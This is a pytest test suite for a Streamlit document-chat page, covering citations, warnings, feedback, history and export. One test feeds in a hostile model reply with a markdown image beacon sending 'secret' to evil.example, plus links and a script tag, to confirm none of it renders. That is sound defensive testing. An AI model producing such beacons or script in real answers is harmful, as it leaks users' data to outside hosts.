"""The chat page through Streamlit's AppTest: the sample library, the real answer module,
and a stand-in Ollama over real HTTP whose replies quote the sources it was given."""
from __future__ import annotations

import re

import pytest
from streamlit.testing.v1 import AppTest

from core.history import History
from core.render import highlight_html, html_text, literal_markdown as md
from core.settings import load_settings
from core.types import AnswerResult, Feedback, StoredMessage
from tests.conftest import ROOT
from tests.inert import assert_inert, visible
from tests.ollama_standin import OllamaStandin
from tests.prompts import sources_in

RETURNS_Q = "Can a customer return a bike after 45 days?"


@pytest.fixture(autouse=True)
def _fresh_cache(fresh_streamlit_cache):
    yield




def quote_first(request: dict) -> list[str]:
    """Quote the first sentence of source 1 and cite it, in small pieces."""
    first = sources_in(request)[0]["text"]
    sentence = re.split(r"(?<=[.!?])\s+", " ".join(first.split()))[0].rstrip(".")
    text = f"{sentence} [1]."
    return [text[i:i + 7] for i in range(0, len(text), 7)]


@pytest.fixture
def ollama(monkeypatch):
    with OllamaStandin(default_reply=quote_first) as standin:
        monkeypatch.setenv("OLLAMA_HOST", standin.host)
        yield standin


def page() -> AppTest:
    return AppTest.from_file(str(ROOT / "pages" / "chat.py"), default_timeout=60)


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="chat_input").set_value(question).run()
    assert not at.exception, at.exception
    return at


def markdown(at: AppTest) -> str:
    return "\n".join(str(m.value) for m in at.markdown)


def texts(at: AppTest) -> str:
    parts = [m.value for m in at.markdown] + [i.value for i in at.info] + [w.value for w in at.warning]
    parts += [c.value for c in at.caption] + [s.value for s in at.success] + [e.value for e in at.error]
    parts += [h.value for h in at.html] + [s.value for s in at.subheader]
    return "\n".join(str(p) for p in parts)




def history() -> History:
    return History(load_settings().db_path)


def last_answer() -> StoredMessage:
    h = history()
    conv = h.conversations()[0]
    return [m for m in h.messages(conv["id"]) if m.role == "assistant"][-1]


def last_result() -> AnswerResult:
    result = last_answer().result
    assert result is not None
    return result


# -- the journey --------------------------------------------------------------------------------


def test_empty_library_points_to_the_documents_page():
    at = page().run()
    assert not at.exception
    assert "Documents page" in " ".join(i.value for i in at.info)
    assert not at.chat_input


def test_answer_shows_a_card_for_the_cited_page_and_opens_it(library, ollama):
    at = ask(page().run(), RETURNS_Q)
    msg, result = last_answer(), last_result()
    assert result.mode == "llm" and result.found is True
    assert msg.question == RETURNS_Q and result.query
    assert [c.n for c in result.citations] == [1]
    cited = result.citations[0]
    given = sources_in(ollama.bodies("/api/chat")[-1])
    assert cited.file == given[0]["file"]
    # the answer, with its marker as a chip that jumps to the card
    out = markdown(at)
    chip = re.search(rf"<a class='gw-cite' href='#gw-src-{msg.id}-1'[^>]*>1<span class='gw-tip' role='tooltip'>"
                     r"<span class='gw-tip-place'>(.*?)</span>“(.*?)”</span></a>", out)
    assert chip, out
    assert chip.group(1) == html_text(f"{cited.file} · page {cited.page}")  # the place, in the tooltip
    assert chip.group(2) and chip.group(2) == html_text(cited.quote)  # ... and the supporting quote
    # one card, for the cited source only, with its place
    assert f"**[1]** {md(cited.file)} · page {cited.page}" in out
    assert "**[2]**" not in out
    assert "<mark>" in out
    # the sources it read but didn't cite are tucked away
    assert len(given) > 1  # the returns question reads several passages ...
    [tucked] = [e for e in at.expander if "not cited" in e.label]  # ... and the uncited ones are tucked away
    assert str(len(given) - 1) in tucked.label
    # open the page: the dialog shows the page as printed, the supporting lines marked, and the original
    at.button(key=f"chat_page_{msg.id}_1").click().run()
    assert not at.exception
    shown = " ".join(h.value for h in at.html)
    alt = highlight_html(f"Page {cited.page} of {cited.file}, with the supporting lines highlighted", [])
    assert f"alt='{alt}'" in shown
    assert "data:image/png;base64," in shown and "data-marked='true'" in shown
    assert any(b.label == f"Download {md(cited.file)}" for b in at.download_button)
    assert at.download_button(key="chat_export")


def test_a_citation_to_an_unknown_number_gets_no_card(library, ollama):
    ollama.enqueue_chat(["Every visitor receives a golden ", "unicorn statue [42]."])
    at = ask(page().run(), RETURNS_Q)
    msg = last_result()
    assert msg.citations == [] and msg.no_citations is True  # and nothing could be matched
    out = markdown(at)
    assert "[42]" not in out and "**[" not in out and "gw-cite" not in out
    warnings = " ".join(w.value for w in at.warning)
    assert "This answer cites no source; check it against your documents." in warnings
    assert "Nothing in your documents says this: “Every visitor receives a golden unicorn statue.”" in warnings


def test_a_made_up_number_leaves_no_fragment_and_warnings_quote_no_markers(library, ollama):
    def reply(request):
        first = sources_in(request)[0]["text"]
        sentence = re.split(r"(?<=[.!?])\s+", " ".join(first.split()))[0].rstrip(".")
        return [f"{sentence} [1]. Also see [99]. ", "Unicorn saddles are given away every Tuesday at noon [1][2]."]

    ollama.enqueue_chat(reply)
    at = ask(page().run(), RETURNS_Q)
    msg = last_answer()
    assert "Also see" not in msg.content and "[99]" not in msg.content
    assert "Also see" not in markdown(at)
    warnings = [w.value for w in at.warning]
    [warning] = [w for w in warnings if "Unicorn" in w]
    assert "Not clearly supported by the cited page" in warning and "[1]" not in warning and "[2]" not in warning
    assert "“Unicorn saddles are given away every Tuesday at noon.”" in warning


def test_a_source_matched_by_groundwork_is_marked(library, ollama):
    def reply(request):
        first = sources_in(request)[0]["text"]
        sentences = [s for s in re.split(r"(?<=[.!?])\s+", " ".join(first.split())) if len(s.split()) > 6]
        return [sentences[0]]  # a correct sentence, and no citation

    ollama.enqueue_chat(reply)
    at = ask(page().run(), RETURNS_Q)
    msg, result = last_answer(), last_result()
    assert result.matched and result.citations[0].matched_by_groundwork is True
    out = markdown(at)
    assert f"<a class='gw-cite gw-matched' href='#gw-src-{msg.id}-1'" in out
    assert "<span class='gw-tip-note'>Source matched by Groundwork</span>" in out
    captions = " ".join(c.value for c in at.caption)
    assert "is a source matched by Groundwork" in captions and "dashed box" in captions
    assert "This answer cites no source" not in " ".join(w.value for w in at.warning)


def test_ollama_down_gives_the_notice_and_the_passages(library):
    at = page().run()
    assert "🔴 Ollama isn't running" in texts(at)  # said before you even ask
    at = ask(at, RETURNS_Q)  # conftest: OLLAMA_HOST is a dead port
    assert last_result().mode == "search_only"
    info = " ".join(i.value for i in at.info)
    assert "Ollama isn't running, so here are the passages" in info
    out = markdown(at)
    assert "Returns" in out and "<mark>" in out
    assert "🔴 Ollama isn't running" not in texts(at)  # once the answer says it, only the answer does


def test_nothing_relevant_gets_the_honest_reply(library, ollama):
    at = ask(page().run(), "Who painted the ceiling of the Sistine Chapel?")  # clearly off topic
    assert "I couldn't find this in your documents." in markdown(at)
    assert ollama.calls("/api/chat") == []  # the model was not asked to guess
    result = last_result()
    assert result.found is False and result.citations == []
    assert any("closest passages" in e.label for e in at.expander)


def test_the_model_saying_the_documents_dont_say_is_not_found(library, ollama):
    ollama.enqueue_chat(["The documents ", "don't say."])
    at = ask(page().run(), RETURNS_Q)
    assert "I couldn't find this in your documents." in markdown(at)
    assert last_result().found is False


def test_images_links_and_html_from_the_model_are_never_rendered(library, ollama):
    ollama.enqueue_chat([
        "Bikes can be returned within 30 days [1]. ![receipt](https://evil.example/x.png?d=",
        "secret) See [the policy](https://evil.example/p) or <img src='https://evil.example/y.png'> ",
        "<script>alert(1)</script> https://evil.example/z",
    ])
    at = ask(page().run(), RETURNS_Q)
    rendered = [str(m.value) for m in at.markdown] + [str(w.value) for w in at.warning] + \
               [str(c.value) for c in at.caption] + [str(h.value) for h in at.html] + [str(i.value) for i in at.info]
    joined = "\n".join(rendered)
    assert "Bikes can be returned within 30 days" in joined
    for shown in rendered:
        if not re.search(r"gw-passage|gw-page|^<style>", shown):  # ours: passages (highlight_html), styles
            ours = r"^<span id='gw-src-[\d-]+'></span>|<a class='gw-cite'[^>]*>.*?</a>"  # our anchor and chips
            assert_inert(re.sub(ours, "", shown))
    assert "[image not shown: receipt]" in visible(joined)
    assert not at.image


def test_prices_stay_prices_not_formulas(library, ollama):
    ollama.enqueue_chat(["The Trail 500 costs $1299 and the Pro costs ", "$1899 [1]. Code: `$HOME`"])
    at = ask(page().run(), "How much does the Trail 500 cost?")
    out = markdown(at)
    assert "costs \\$1299 and the Pro costs \\$1899" in out  # "$…$" would be drawn as maths
    assert "`$HOME`" in out  # inside code a backslash would show, and "$" is harmless there


def test_feedback_is_saved_with_a_note(library, ollama):
    at = ask(page().run(), RETURNS_Q)
    mid = last_answer().id
    at.feedback(key=f"chat_fb_{mid}").set_value(1).run()
    assert not at.exception
    assert history().messages(last_answer().conversation_id)[-1].feedback == Feedback(1, "")
    at.text_input(key=f"chat_fb_note_{mid}").input("Exactly what the policy says").run()
    assert last_answer().feedback == Feedback(1, "Exactly what the policy says")
    at.feedback(key=f"chat_fb_{mid}").set_value(0).run()
    assert last_answer().feedback == Feedback(-1, "Exactly what the policy says")
    # a new visit shows the rating that was given
    again = page().run()
    assert again.feedback(key=f"chat_fb_{mid}").value == 0
    assert history().usage_stats().disliked == 1


def test_conversation_survives_a_restart_and_feeds_follow_ups(library, ollama):
    ask(page().run(), RETURNS_Q)
    import streamlit as st

    st.cache_resource.clear()
    at = page().run()  # a new session: opens the most recent conversation
    assert not at.exception
    assert at.subheader[0].value == md(RETURNS_Q)
    roles = [m.name for m in at.chat_message]
    assert roles == ["user", "assistant"]
    assert RETURNS_Q in markdown(at)
    ask(at, "And for the Pro model?")
    sent = ollama.bodies("/api/chat")[-1]["messages"]
    assert any(m["role"] == "user" and m["content"] == RETURNS_Q for m in sent)  # the earlier turn went along
    conv = history().conversations()
    assert len(conv) == 1 and conv[0]["messages"] == 4


def test_new_rename_and_delete(library, ollama):
    at = ask(page().run(), RETURNS_Q)
    at.button(key="chat_new").click().run()
    assert at.subheader[0].value == "New conversation"
    ask(at, "How long is the warranty on a frame?")
    assert len(history().conversations()) == 2
    # rename the current one
    at.text_input(key="chat_rename_title").input("Frame warranty").run()
    at.button(key="chat_rename").click().run()
    assert not at.exception
    titles = [c["title"] for c in history().conversations()]
    assert "Frame warranty" in titles
    assert at.subheader[0].value == "Frame warranty"
    # delete needs a confirmation
    at.button(key="chat_delete").click().run()
    assert any("will be deleted" in m.value for m in at.markdown)
    assert len(history().conversations()) == 2
    at.button(key="chat_delete_confirm").click().run()
    assert not at.exception
    assert [c["title"] for c in history().conversations()] == [RETURNS_Q[:60]]
    assert at.subheader[0].value == "New conversation"
    # the other conversation is one click away in the list
    other = history().conversations()[0]["id"]
    at.button(key=f"chat_conv_{other}").click().run()
    assert at.subheader[0].value == md(RETURNS_Q)


def test_scope_and_strict_mode_reach_the_answer(library, ollama):
    at = page().run()
    assert at.toggle(key="chat_strict").value is True
    at.multiselect(key="chat_scope").select("Price_List_2026.docx").run()
    at.toggle(key="chat_strict").set_value(False).run()
    ask(at, "How much does a basic tune-up cost?")
    body = ollama.bodies("/api/chat")[-1]
    assert {s["file"] for s in sources_in(body)} == {"Price_List_2026.docx"}
    assert "general knowledge" in body["messages"][0]["content"].lower()


def test_export_is_offered_and_holds_the_sources(library, ollama):
    at = ask(page().run(), RETURNS_Q)
    assert at.download_button(key="chat_export").label == "Text file (Markdown)"
    assert at.download_button(key="chat_export_html").label == "Printable page"
    from core.exports import conversation_html, conversation_markdown

    conv_id = last_answer().conversation_id
    conv, messages = history().conversation(conv_id), history().messages(conv_id)  # what the page passes
    text = conversation_markdown(conv, messages)
    assert "**Question:** " + RETURNS_Q in text and "[1]" in text
    assert "<section>" in conversation_html(conv, messages)
